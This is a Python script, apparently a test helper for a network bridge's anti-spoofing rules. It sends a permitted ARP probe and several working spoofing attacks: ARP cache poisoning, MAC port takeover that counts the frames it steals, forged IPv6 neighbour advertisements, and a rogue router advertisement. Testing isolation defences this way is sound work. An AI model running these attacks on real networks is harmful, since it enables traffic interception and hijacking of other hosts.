"""Impersonates neighbours and routers from a workload (the evasions the bridge table must stop)
and sends the ARP probe it must let through.

claim IFACE SENDER_IP TARGET_IP: broadcasts "who-has TARGET_IP tell SENDER_IP" with IFACE's
    MAC. The owner of TARGET_IP then believes SENDER_IP is at IFACE's MAC.
probe IFACE TARGET_IP: an RFC 5227 probe (sender 0.0.0.0); prints "reply" when TARGET_IP's
    owner answers within 2 s, else "none".
announce IFACE: sends one broadcast frame (local experimental ethertype 0x88b5) from IFACE's own
    MAC, so the bridge learns IFACE's MAC on its port.
takeover IFACE VICTIM_MAC SECONDS: sends broadcast frames with VICTIM_MAC as their source (a
    bridge that believes them moves VICTIM_MAC to IFACE's port), prints "sent", then counts for
    SECONDS the frames addressed to VICTIM_MAC that reach IFACE and prints the count.
na IFACE TARGET_IP6: sends an unsolicited neighbour advertisement to all nodes, with the override
    flag, that TARGET_IP6 is at IFACE's MAC; a neighbour holding TARGET_IP6 in its cache takes it.
ra IFACE: sends an IPv6 router advertisement (router lifetime 1800 s) to all nodes from
    IFACE's link-local address; a neighbour that accepts it gets a default route via IFACE.
"""
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
ETH_P_ALL = 0x0003
ETH_P_EXPERIMENTAL = 0x88B5  # IEEE 802 local experimental: no host stack handles it


def request(src_mac, sender_ip, target_ip):
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, src_mac, socket.inet_aton(sender_ip),
                      b"\x00" * 6, socket.inet_aton(target_ip))
    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_ARP) + arp


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    s.bind((iface, ETH_P_ARP))
    return s, s.getsockname()[4]


def claim(iface, sender_ip, target_ip):
    s, mac = open_socket(iface)
    for _ in range(3):
        s.send(request(mac, sender_ip, target_ip))
        time.sleep(0.05)


def probe(iface, target_ip):
    s, mac = open_socket(iface)
    s.settimeout(0.2)
    s.send(request(mac, "0.0.0.0", target_ip))
    end = time.time() + 2
    while time.time() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        op, spa = struct.unpack("!H6x4s", frame[20:32])
        if op == 2 and spa == socket.inet_aton(target_ip):
            print("reply")
            return
    print("none")


def raw_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, ETH_P_ALL))
    return s, s.getsockname()[4]


def experimental_frame(src_mac):
    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_EXPERIMENTAL) + b"bulkhead" * 6


def announce(iface):
    s, mac = raw_socket(iface)
    s.send(experimental_frame(mac))


def takeover(iface, victim_mac, seconds):
    victim = bytes.fromhex(victim_mac.replace(":", ""))
    s, _ = raw_socket(iface)
    for _ in range(3):
        s.send(experimental_frame(victim))
        time.sleep(0.02)
    print("sent", flush=True)
    s.settimeout(0.1)
    stolen = 0
    end = time.time() + seconds
    while time.time() < end:
        try:
            frame, address = s.recvfrom(65535)
        except socket.timeout:
            continue
        if address[2] != socket.PACKET_OUTGOING and frame[:6] == victim:
            stolen += 1
    print(stolen, flush=True)


def router_advertisement(iface):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    index = socket.if_nametoindex(iface)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    # type, code, checksum (the kernel fills it in), hop limit, flags, router lifetime,
    # reachable time, retransmission timer
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    for _ in range(3):
        s.sendto(ra, ("ff02::1", 0, 0, index))
        time.sleep(0.05)


def neighbour_advertisement(iface, target):
    _, mac = raw_socket(iface)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    index = socket.if_nametoindex(iface)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)  # or it poisons our own cache
    # type, code, checksum (the kernel fills it in), flags (override), target address, then the
    # target link-layer address option (type 2, 1 unit of 8 bytes)
    na = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000,
                     socket.inet_pton(socket.AF_INET6, target), 2, 1, mac)
    for _ in range(3):
        s.sendto(na, ("ff02::1", 0, 0, index))
        time.sleep(0.05)


if __name__ == "__main__":
    if sys.argv[1] == "claim":
        claim(sys.argv[2], sys.argv[3], sys.argv[4])
    elif sys.argv[1] == "probe":
        probe(sys.argv[2], sys.argv[3])
    elif sys.argv[1] == "announce":
        announce(sys.argv[2])
    elif sys.argv[1] == "takeover":
        takeover(sys.argv[2], sys.argv[3], float(sys.argv[4]))
    elif sys.argv[1] == "na":
        neighbour_advertisement(sys.argv[2], sys.argv[3])
    else:
        router_advertisement(sys.argv[2])
